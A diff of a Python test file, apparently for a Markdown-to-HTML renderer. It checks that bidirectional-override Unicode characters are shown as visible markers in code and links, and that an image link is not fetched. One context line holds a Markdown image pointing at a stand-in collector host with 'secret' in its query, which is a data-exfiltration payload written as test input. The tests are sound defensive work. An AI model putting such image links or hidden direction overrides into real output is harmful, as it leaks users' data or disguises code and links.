@@ -124,3 +124,14 @@ def test_tex_that_stands_alone_keeps_its_lines_and_runs_nothing() -> None:
 
 def test_a_picture_in_an_answer_is_not_fetched() -> None:
     assert "<img" not in as_html("![chart](https://collector.example/?said=secret) ![x][y]\n\n[y]: https://collector.example/")
+
+
+@pytest.mark.parametrize("turn", [*range(0x202A, 0x202F), *range(0x2066, 0x206A)])
+def test_what_turns_letters_around_is_shown_in_code_and_links_alone(turn: int) -> None:
+    """Else code and a link's name look like others."""
+    character, shown = chr(turn), f"⟨U+{turn:04X}⟩"
+    for written in ("`a#b`", "```sh\na#b\n```", "    a#b", "[a*b#*`#`](https://c.d)", "<https://c.d/#e>"):
+        html_of_it = as_html(written.replace("#", character))
+        assert character not in html_of_it and shown in html_of_it
+    assert as_html(f"*a*{character}b [c](u) {character} d").count(character) == 2
+    assert "⟨" not in as_html("`\u200f` [\u200e\u061c](u)")  # marks of a direction turn nothing around
